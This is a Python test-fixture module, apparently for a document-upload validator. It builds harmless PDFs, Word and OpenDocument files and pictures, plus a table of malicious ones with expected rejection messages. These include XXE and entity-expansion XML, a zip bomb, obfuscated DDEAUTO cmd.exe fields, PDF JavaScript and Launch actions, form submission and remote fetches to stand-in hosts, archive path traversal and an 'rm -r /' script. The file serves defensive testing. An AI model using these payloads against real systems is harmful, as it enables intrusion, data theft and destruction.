"""Files as people, word processors and attackers make them: good ones, and a table of bad ones with what is said of each."""

import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from PIL import Image

MOST = 2_000_000
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
XLINK = "http://www.w3.org/1999/xlink"
ODF_SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
Entries = dict[str, bytes | str]


def zipped(entries: Entries, *, stored: tuple[str, ...] = ()) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in entries.items():
            packed.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def types(main: str = WORD_MAIN, more: str = "") -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
    )


def relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'


def docx_entries(**more: bytes | str) -> Entries:
    body = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Minutes of 2 March</w:t></w:r></w:p></w:body></w:document>'
    core = "<cp:coreProperties xmlns:cp='c' xmlns:dc='d'><dc:creator>Aled Morgan</dc:creator></cp:coreProperties>"
    return {
        "[Content_Types].xml": types(),
        "_rels/.rels": relation("officeDocument", "word/document.xml", external=False),
        "word/document.xml": body,
        "docProps/core.xml": core,
        "docProps/app.xml": "<Properties><Company>Hillside School</Company></Properties>",
        "word/_rels/document.xml.rels": relation("hyperlink", "https://www.gov.uk/"),
        **more,
    }


def docx(**more: bytes | str) -> bytes:
    return zipped(docx_entries(**more))


def docx_with(name: str, content: bytes | str) -> Callable[[], bytes]:
    return lambda: zipped({**docx_entries(), name: content})


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:document xmlns:w="{W}"><w:body><w:p>{runs}</w:p></w:body></w:document>'


def field_under(prefix: str, space: str, name: str = "instrText") -> str:
    """A field that runs a program, its names under a prefix of the writer's own."""
    given = f' {prefix}:instr="DDEAUTO c:\\cmd.exe"' if name == "fldSimple" else ""
    inside = "" if given else "DDE<i:x xmlns:i='urn:nothing'/>AUTO c:\\cmd.exe"
    element = f"<{prefix}:{name}{given}>{inside}</{prefix}:{name}>"
    return f'<w:document xmlns:w="{W}" xmlns:{prefix}="{space}"><w:body><w:p><w:r>{element}</w:r></w:p></w:body></w:document>'


def word_with(piece: str, space: str = W) -> Callable[[], bytes]:
    """A Word text with this among its words."""
    return docx_with("word/document.xml", f'<y:document xmlns:y="{space}"><y:body><y:p>{piece}</y:p></y:body></y:document>')


def odt_under(body: str, space: str) -> Callable[[], bytes]:
    """An OpenDocument whose names lie under the prefix y, bound to this space."""
    return lambda: odt(f'<text:p xmlns:y="{space}">{body}</text:p>')


def odt_entries(body: str = "<text:p>Minutes</text:p>", manifest: str = "") -> Entries:
    spaces = 'xmlns:office="o" xmlns:text="t" xmlns:script="s" xmlns:draw="d" xmlns:xlink="x"'
    return {
        "mimetype": ODT,
        "content.xml": f"<office:document-content {spaces}><office:body><office:text>{body}</office:text></office:body></office:document-content>",
        "meta.xml": "<office:document-meta xmlns:office='o' xmlns:dc='d'><dc:creator>Aled Morgan</dc:creator></office:document-meta>",
        "META-INF/manifest.xml": f"<manifest:manifest xmlns:manifest='m'>{manifest}</manifest:manifest>",
    }


def odt(body: str = "<text:p>Minutes</text:p>", manifest: str = "", **more: bytes | str) -> bytes:
    return zipped(odt_entries(body, manifest) | more, stored=("mimetype",))


def odt_with(name: str, content: bytes | str) -> Callable[[], bytes]:
    return lambda: zipped(odt_entries() | {name: content}, stored=("mimetype",))


def pdf(change: Callable[[Any], None] | None = None, **saving: Any) -> bytes:
    new = pikepdf.new()
    new.add_blank_page()
    new.docinfo["/Author"] = "Aled Morgan"
    if change is not None:
        change(new)
    out = BytesIO()
    new.save(out, **saving)
    return out.getvalue()


def pdf_with_action(**action: Any) -> Callable[[], bytes]:
    """A link on the first page that does this."""

    def change(new: Any) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=pikepdf.Dictionary(**action))
        new.pages[0].Annots = pikepdf.Array([note])

    return lambda: pdf(change)


def pdf_noted(kind: str, **more: Any) -> Callable[[], bytes]:
    """A mark of this kind over the first page."""

    def change(new: Any) -> None:
        mark = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(f"/{kind}"), Rect=[0, 0, 90, 20], T="Aled Morgan", M="D:2026", **more)
        new.pages[0].Annots = pikepdf.Array([new.make_indirect(mark)])

    return lambda: pdf(change)


def drawn(new: Any, words: str) -> Any:
    """How a field or a mark is shown: these words."""
    font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    shape = {"Type": pikepdf.Name.XObject, "Subtype": pikepdf.Name.Form, "BBox": [0, 0, 90, 20], "Resources": resources}
    return pikepdf.Dictionary(N=new.make_stream(f"BT /F1 9 Tf 2 2 Td ({words}) Tj ET".encode(), **shape))


def pdf_form(*fields: dict[str, Any], anew: bool = False) -> Callable[[], bytes]:
    """A form of text fields, of which `shown` is drawn on the page; `anew` where each program draws the answers itself."""

    def change(new: Any) -> None:
        made = []
        for field in fields:
            given = {key: value for key, value in field.items() if key != "shown"}
            if "shown" in field:
                given["AP"] = drawn(new, field["shown"])
            kind = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Widget, "FT": pikepdf.Name.Tx, "Rect": [0, 0, 90, 20]}
            made.append(new.make_indirect(pikepdf.Dictionary(**kind | {"F": 4} | given)))
        new.pages[0].Annots = pikepdf.Array(made)
        new.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(made), **({"NeedAppearances": True} if anew else {}))
        new.Root.StructTreeRoot = pikepdf.Dictionary(K=pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.OBJR, Obj=one) for one in made]))

    return lambda: pdf(change)


def pdf_root(key: str, value: Callable[[Any], Any]) -> Callable[[], bytes]:
    return lambda: pdf(lambda new: new.Root.__setitem__(key, value(new)))


def script(_new: Any = None) -> Any:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def attached(new: Any) -> None:
    new.attachments["salaries.xlsx"] = b"numbers"


def picture(form: str, mode: str = "RGB", size: tuple[int, int] = (40, 30), **saving: Any) -> bytes:
    out = BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, form, **saving)
    return out.getvalue()


def camera_picture() -> bytes:
    """A photograph that says where and by whom, and that it lies on its side."""
    exif = Image.Exif()
    exif[0x013B], exif[0x0112] = "Aled Morgan", 6
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif, comment=b"taken at home")


def png_that_claims(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def moving_png() -> bytes:
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    out = BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def flagged(name: str, *, bits: int = 0, mode: int = 0) -> bytes:
    """A Word text with one more part that is marked so."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for part, content in docx_entries().items():
            packed.writestr(part, content)
        entry = zipfile.ZipInfo(name)
        entry.external_attr = mode << 16
        packed.writestr(entry, "/etc/passwd")
    made = out.getvalue()
    if bits:
        at = made.rindex(b"PK\x01\x02")
        made = made[: at + 8] + struct.pack("<H", bits) + made[at + 10 :]
    return made


def twice_the_same() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for part, content in docx_entries().items():
            packed.writestr(part, content)
        packed.writestr("Word/Document.xml", "<other/>")
    return out.getvalue()


def lzma_packed() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as packed:
        for part, content in docx_entries().items():
            packed.writestr(part, content)
    return out.getvalue()


@cache
def bomb() -> bytes:
    return docx(**{"word/media/big.xml": bytes(40_000_000)})


def damaged(content: bytes) -> bytes:
    at = len(content) // 3
    return content[:at] + bytes(byte ^ 0xFF for byte in content[at : at + 40]) + content[at + 40 :]


ENTITY = f'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="{W}">&x;</w:document>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCUMENT = "word/document.xml"
RELS = "word/_rels/document.xml.rels"

Row = tuple[str, str, Callable[[], bytes], str]
# What it is · the name it comes under · what is in it · words of the sentence that is said of it.
BAD: tuple[Row, ...] = (
    ("a program by name", "minutes.exe", pdf, "This kind of file is not taken"),
    ("a program behind a second ending", "minutes.pdf.exe", pdf, "This kind of file is not taken"),
    ("a stream of another system", "minutes.pdf::$DATA", pdf, "This kind of file is not taken"),
    ("no ending", "minutes", pdf, "This kind of file is not taken"),
    ("a web page by name", "minutes.html", lambda: b"<html></html>", "This kind of file is not taken"),
    ("a drawing by name", "plan.svg", lambda: b"<svg onload='x()'/>", "This kind of file is not taken"),
    ("an old Word document by name", "minutes.doc", pdf, "This kind of file is not taken"),
    ("a macro document by name", "minutes.docm", docx, "This kind of file is not taken"),
    ("a packed folder by name", "minutes.zip", docx, "This kind of file is not taken"),
    ("a way up in the name", "../../etc/minutes.pdf", pdf, "holds a path"),
    ("a way of another system in the name", "C:\\home\\minutes.pdf", pdf, "holds a path"),
    ("NUL in the name", "minutes\x00.pdf", pdf, "signs that cannot be seen"),
    ("a line break in the name", "minutes\r\nX: y.pdf", pdf, "signs that cannot be seen"),
    ("a turn of the direction in the name", "minutes\u202exe.pdf", pdf, "signs that cannot be seen"),
    ("half a sign in the name", "minutes\ud800.pdf", pdf, "signs that cannot be seen"),
    ("300 characters", "m" * 296 + ".pdf", pdf, "more than 150 characters"),
    ("nothing but dots", "....", pdf, "has no name"),
    ("nothing in it", "minutes.pdf", lambda: b"", "is empty"),
    ("more than may be", "minutes.txt", lambda: b"a" * (MOST + 1), "larger than 2 MB"),
    ("a picture called a PDF", "minutes.pdf", lambda: picture("PNG"), "ends as that of a PDF"),
    ("a PDF called a picture", "plan.png", pdf, "ends as that of a PNG picture"),
    ("one picture called another", "plan.jpg", lambda: picture("PNG"), "ends as that of a JPEG picture"),
    ("a program called a PDF", "minutes.pdf", lambda: b"MZ\x90\x00" + bytes(90), "is a program"),
    ("a script called a text", "minutes.txt", lambda: b"#!/bin/sh\nrm -r /\n", "is a script"),
    ("a web page called a text", "minutes.txt", lambda: b"\xef\xbb\xbf\n <!DOCTYPE html><script>x()</script>", "a web page or a drawing"),
    ("a drawing called a picture", "plan.png", lambda: b"<?xml version='1.0'?><svg/>", "a web page or a drawing"),
    ("a web page called a Word document", "minutes.docx", lambda: b"<html>hello</html>", "a web page or a drawing"),
    ("a locked Word document", "minutes.docx", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(500), "needs a password"),
    ("rich text called plain", "minutes.txt", lambda: b"{\\rtf1 hello}", "is a rich text file"),
    ("a moving picture called a still one", "plan.png", lambda: picture("GIF", "P"), "is a GIF picture"),
    ("a telephone's picture", "plan.jpg", lambda: b"\x00\x00\x00\x18ftypheic" + bytes(50), "is a HEIC picture"),
    ("a text called a Word document", "minutes.docx", lambda: b"hello", "ends as that of a Word document"),
    ("a PDF with a password", "minutes.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")), "is encrypted"),
    ("a PDF that only its owner may change", "minutes.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="x")), "is encrypted"),
    ("a PDF that runs a script when it is opened", "minutes.pdf", pdf_root("/OpenAction", script), "holds a script"),
    ("a PDF with a script by name", "m.pdf", pdf_root("/Names", lambda new: pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())), "holds a script"),
    ("a PDF that starts a program", "m.pdf", pdf_with_action(S=pikepdf.Name.Launch, F="cmd.exe"), "holds a script or starts something"),
    ("a PDF whose link is a script", "m.pdf", pdf_with_action(S=pikepdf.Name.URI, URI="javascript:x()"), "opens or fetches something outside"),
    ("a PDF whose link is a file", "m.pdf", pdf_with_action(S=pikepdf.Name.URI, URI="file:///etc/passwd"), "opens or fetches something outside"),
    ("a PDF that sends what is typed", "m.pdf", pdf_with_action(S=pikepdf.Name.SubmitForm, F="https://x.example"), "opens or fetches something"),
    ("a PDF that opens another", "m.pdf", pdf_with_action(S=pikepdf.Name.GoToR, F="other.pdf"), "opens or fetches something outside"),
    ("a PDF with a file in it", "m.pdf", lambda: pdf(attached), "Another file"),
    ("a PDF that is a living form", "m.pdf", pdf_root("/AcroForm", lambda new: pikepdf.Dictionary(XFA=pikepdf.Array())), "is a form"),
    ("a PDF with a comment", "m.pdf", pdf_noted("Text", Contents="Talk to KW’s mother first"), "holds comments"),
    ("a PDF with a comment on words", "m.pdf", pdf_noted("Highlight", Contents="Is that so?"), "Delete them all"),
    ("a PDF with a comment in a dress", "m.pdf", pdf_noted("Underline", RC="<p>Is that so?</p>"), "holds comments"),
    ("a PDF with a comment of a kind that nobody knows", "m.pdf", pdf_noted("Whisper", Contents="Is that so?"), "holds comments"),
    ("a PDF with words over the page that are hidden", "m.pdf", pdf_noted("FreeText", Contents="Ffion", F=2), "holds comments"),
    ("a PDF in which nothing is blacked out yet", "m.pdf", pdf_noted("Redact"), "marked to be blacked out"),
    ("a PDF form whose answers each program draws", "m.pdf", pdf_form({"V": "Yes", "shown": "No"}, anew=True), "not all fixed"),
    ("a PDF form whose answer is drawn nowhere", "m.pdf", pdf_form({"V": "Yes"}), "not all fixed"),
    ("a PDF with a film", "m.pdf", pdf_root("/X", lambda new: pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)), "a film or a sound"),
    ("a PDF cut off", "m.pdf", lambda: pdf()[:300], "damaged or cut off"),
    ("a PDF that is nothing but its first line", "m.pdf", lambda: b"%PDF-1.7\n%%EOF", "damaged or cut off"),
    ("a PDF that is a packed folder too", "m.pdf", lambda: pdf() + docx(), "follows after the end of the PDF"),
    ("a PDF behind something else", "m.pdf", lambda: b"GIF89a" + pdf(), "is a GIF picture"),
    ("a picture cut off", "plan.png", lambda: picture("PNG")[:-60], "damaged or cut off"),
    ("a photograph cut off", "plan.jpg", lambda: picture("JPEG", size=(200, 200))[:900], "damaged or cut off"),
    ("a picture altered inside", "plan.png", lambda: damaged(picture("PNG")), "damaged or cut off"),
    ("a picture that bursts", "plan.png", lambda: png_that_claims(50_000, 50_000), "40 million dots"),
    ("a picture that lies about its size", "plan.png", lambda: png_that_claims(5_000, 5_000), "damaged or cut off"),
    ("a picture that is a packed folder too", "plan.png", lambda: picture("PNG") + docx(), "follows after the end of the picture"),
    ("a picture that moves", "plan.png", moving_png, "The picture moves"),
    ("a text with NUL", "minutes.txt", lambda: b"min\x00utes", "no plain text has"),
    ("a text in an old encoding", "minutes.txt", lambda: "Zoë".encode("latin-1"), "in UTF-8"),
    ("a text of nothing but spaces", "minutes.txt", lambda: b" \n\t", "is empty"),
    ("a Word document with macros", "m.docx", docx_with("word/vbaProject.bin", b"\x01"), "holds macros"),
    ("a macro document under another name", "m.docx", lambda: zipped(docx_entries() | {"[Content_Types].xml": types(MACRO_MAIN)}), "holds macros"),
    ("a Word document with a control", "m.docx", docx_with("word/activeX/activeX1.xml", "<x/>"), "holds macros"),
    ("a table called a Word document", "m.docx", lambda: zipped(docx_entries() | {"[Content_Types].xml": types(SHEET_MAIN)}), "not the text"),
    ("any packed folder called a Word document", "m.docx", lambda: zipped({"hello.txt": "hello"}), "damaged"),
    ("a Word document that bursts", "m.docx", bomb, "far larger"),
    ("a Word document of endless parts", "m.docx", lambda: docx(**{f"word/{n}.xml": "<x/>" for n in range(2_001)}), "far larger"),
    ("a Word document that reads a file of the server", "m.docx", docx_with(DOCUMENT, ENTITY), "declares parts of its own"),
    ("a Word document that laughs", "m.docx", docx_with(DOCUMENT, LAUGHS), "declares parts of its own"),
    ("a Word document nested without end", "m.docx", docx_with(DOCUMENT, "<a>" * 9_000 + "</a>" * 9_000), "damaged"),
    ("a Word document with bad XML", "m.docx", docx_with(DOCUMENT, "<w:document>"), "damaged"),
    ("a link of the file system", "m.docx", lambda: flagged("word/link", mode=stat.S_IFLNK | 0o777), "in a way that no word processor uses"),
    ("a part that leads out", "m.docx", lambda: flagged("../../etc/cron.d/x"), "in a way that no word processor uses"),
    ("a part that leads to the root", "m.docx", lambda: flagged("/etc/passwd"), "in a way that no word processor uses"),
    ("a part with a password", "m.docx", lambda: flagged("word/secret", bits=1), "is encrypted"),
    ("two parts of one name", "m.docx", twice_the_same, "in a way that no word processor uses"),
    ("another way of packing", "m.docx", lzma_packed, "in a way that no word processor uses"),
    ("a Word document behind which something follows", "m.docx", lambda: docx() + b"<script>", "in a way that no word processor uses"),
    ("a Word document cut off", "m.docx", lambda: docx()[:-200], "damaged"),
    ("a Word document altered inside", "m.docx", lambda: damaged(docx()), "damaged"),
    ("a template from outside", "m.docx", docx_with(RELS, relation("attachedTemplate", "https://x.example/t.dotm")), "fetches something"),
    ("a picture from outside", "m.docx", docx_with(RELS, relation("image", "https://x.example/p.png")), "fetches something from outside"),
    ("a link to a file", "m.docx", docx_with(RELS, relation("hyperlink", "file:///c:/x.exe")), "fetches something from outside"),
    ("an object inside", "m.docx", docx_with("word/embeddings/oleObject1.xls", b"x"), "Another file lies inside"),
    ("a field that runs a program, in pieces", "m.docx", docx_with(DOCUMENT, field("DD", "E", "AUTO c:\\cmd.exe")), "fetches something from outside"),
    ("a field in pieces on lines of their own", "m.docx", docx_with(DOCUMENT, field("DD", "EAUTO c:").replace("</w:r>", "\n</w:r>")), "fetches"),
    ("a field under another prefix", "m.docx", docx_with(DOCUMENT, field_under("x", W)), "fetches something from outside"),
    ("a field of the strict kind", "m.docx", docx_with(DOCUMENT, field_under("x", STRICT)), "fetches something from outside"),
    ("a simple field under another prefix", "m.docx", docx_with(DOCUMENT, field_under("x", W, "fldSimple")), "fetches something from outside"),
    ("a field that was deleted and can come back", "m.docx", docx_with(DOCUMENT, field_under("x", W, "delInstrText")), "fetches something"),
    ("a field in a part beside", "m.docx", docx_with("word/header1.xml", field_under("x", W)), "fetches something from outside"),
    ("a part of Word’s under another ending", "m.docx", docx_with("word/other.dat", field("DDEAUTO c:")), "cannot be checked"),
    ("an object by its relation alone", "m.docx", docx_with(RELS, relation("oleObject", "media/a.png", external=False)), "Another file lies inside"),
    ("a packed file by its relation", "m.docx", docx_with(RELS, relation("package", "media/a.png", external=False)), "Another file lies inside"),
    ("a web page by its relation", "m.docx", docx_with(RELS, relation("aFChunk", "x.xml", external=False)), "Another file lies inside"),
    ("a control by its relation", "m.docx", docx_with(RELS, relation("control", "x.xml", external=False)), "holds macros"),
    ("macros by their relation", "m.docx", docx_with(RELS, relation("vbaProject", "x.xml", external=False)), "holds macros"),
    ("bars by their relation", "m.docx", docx_with(RELS, relation("attachedToolbars", "x.xml", external=False)), "holds macros"),
    ("a program from a shop", "m.docx", docx_with(RELS, relation("webextensiontaskpanes", "x.xml", external=False)), "fetches something"),
    ("a web page inside", "m.docx", docx_with("word/x.xhtml", "<html/>"), "cannot be checked"),
    ("a drawing inside", "m.docx", docx_with("word/media/image1.emf", b"\x01"), "cannot be checked"),
    ("a part without an ending", "m.docx", docx_with("word/other", "x"), "cannot be checked"),
    ("a Word document that is an OpenDocument too", "m.docx", docx_with("META-INF/manifest.xml", "<x/>"), "not the text document"),
    ("a picture inside that is none", "m.docx", docx_with("word/media/image1.png", b"hello"), "picture is damaged"),
    ("words that were taken out and are still there", "m.docx", word_with("<y:del><y:r><y:delText>x</y:delText></y:r></y:del>"), "Accept or reject"),
    ("words put in and not accepted", "m.docx", word_with("<y:ins y:author='A'><y:r><y:t>x</y:t></y:r></y:ins>"), "holds tracked changes"),
    ("a tracked change of the strict kind", "m.docx", word_with("<y:ins/>", STRICT), "holds tracked changes"),
    ("words that were moved", "m.docx", word_with("<y:moveFrom><y:r><y:t>x</y:t></y:r></y:moveFrom>"), "holds tracked changes"),
    ("another look not accepted", "m.docx", word_with("<y:pPr><y:pPrChange><y:pPr/></y:pPrChange></y:pPr>"), "holds tracked changes"),
    ("a tracked row of a table", "m.docx", word_with("<y:tcPr><y:cellDel/></y:tcPr>"), "holds tracked changes"),
    ("a tracked change at the head of the page", "m.docx", docx_with("word/header1.xml", f"<w:hdr xmlns:w='{W}'><w:del/></w:hdr>"), "Accept"),
    ("a comment", "m.docx", docx_with("word/comments.xml", f"<w:comments xmlns:w='{W}'><w:comment/></w:comments>"), "holds comments"),
    ("a comment's place", "m.docx", word_with("<y:commentRangeStart y:id='1'/>"), "Delete all comments"),
    ("tracked changes in an OpenDocument", "m.odt", lambda: odt("<text:tracked-changes><text:changed-region/></text:tracked-changes>"), "Accept all"),
    ("a tracked change's place in an OpenDocument", "m.odt", lambda: odt("<text:p><text:change text:change-id='1'/></text:p>"), "tracked changes"),
    ("a comment in an OpenDocument", "m.odt", lambda: odt("<text:p><office:annotation>x</office:annotation></text:p>"), "holds comments"),
    ("an OpenDocument with macros", "m.odt", odt_with("Basic/Standard/Module1.xml", "<x/>"), "holds macros"),
    ("an OpenDocument that acts on an event", "m.odt", lambda: odt("<script:event-listener script:event-name='open'/>"), "holds macros"),
    ("an OpenDocument with a password", "m.odt", lambda: odt(manifest="<manifest:encryption-data/>"), "is encrypted"),
    ("a picture from outside in an OpenDocument", "m.odt", lambda: odt("<draw:image xlink:href='https://x.example/p.png'/>"), "fetches something"),
    ("an object in an OpenDocument", "m.odt", odt_with("Object 1/content.xml", "<x/>"), "Another file lies inside"),
    ("a script under another prefix", "m.odt", odt_under("<y:libraries/>", ODF_SCRIPT), "holds macros"),
    ("a script of the older kind", "m.odt", odt_under("<y:module/>", "http://openoffice.org/2000/script"), "holds macros"),
    ("a picture from outside under another prefix", "m.odt", odt_under("<draw:image y:href='https://evil.example/x.png'/>", XLINK), "fetches"),
    ("an object in a folder of another name", "m.odt", lambda: odt("<draw:object xlink:href='./Sheet'/>"), "Another file lies inside"),
    ("an object in letters", "m.odt", lambda: odt("<office:binary-data>TVqQ</office:binary-data>"), "Another file lies inside"),
    ("a picture of another kind in an OpenDocument", "m.odt", odt_with("Pictures/a.svm", b"x"), "cannot be checked"),
    ("an OpenDocument that is a Word document too", "m.odt", odt_with("[Content_Types].xml", types()), "not the text document"),
    ("an OpenDocument that does not begin as one", "m.odt", lambda: zipped(odt_entries()), "ends as that of"),
    ("another OpenDocument", "m.odt", lambda: zipped(odt_entries() | {"mimetype": ODT + "-master"}, stored=("mimetype",)), "not the text document"),
)  # fmt: skip
GOOD: tuple[tuple[str, Callable[[], bytes]], ...] = (
    ("Minutes of 2 March.pdf", pdf),
    ("widths by themselves.pdf", pdf_root("/Widths", lambda new: new.make_indirect(pikepdf.Array([277, 55.5, True, "A", pikepdf.Name.A])))),
    ("marked.pdf", pdf_noted("Highlight", Contents=" ")),
    ("typed onto the page.pdf", pdf_noted("FreeText", Contents="Agreed")),
    ("form.pdf", pdf_form({"V": "Yes", "shown": "Yes"})),
    ("empty form.pdf", pdf_form({"V": ""}, {}, anew=True)),
    ("O’Brien & Søn – 会議.docx", docx),
    ("letter.odt", odt),
    ("accepted.docx", word_with("<y:pPr><y:rPr/></y:pPr><y:r><y:t>x</y:t></y:r><z:del xmlns:z='urn:nothing'/>")),
    ("accepted.odt", lambda: odt("<text:tracked-changes text:track-changes='true'/><text:p>x</text:p>")),
    ("none left.docx", docx_with("word/comments.xml", f"<w:comments xmlns:w='{W}'/>")),
    ("printed.docx", docx_with("word/printerSettings/printerSettings1.bin", b"\\\\hillside\\printer")),
    ("bars.odt", odt_with("Configurations2/accelerator/current.xml", b"")),
    ("linked.odt", lambda: odt("<text:a xlink:href='https://www.gov.uk/'>Guidance</text:a>")),
    ("plan.PNG", lambda: picture("PNG", "RGBA")),
    ("board.jpeg", camera_picture),
    ("notes.txt", lambda: "Zoë’s notes 👍\r\n".encode()),
)
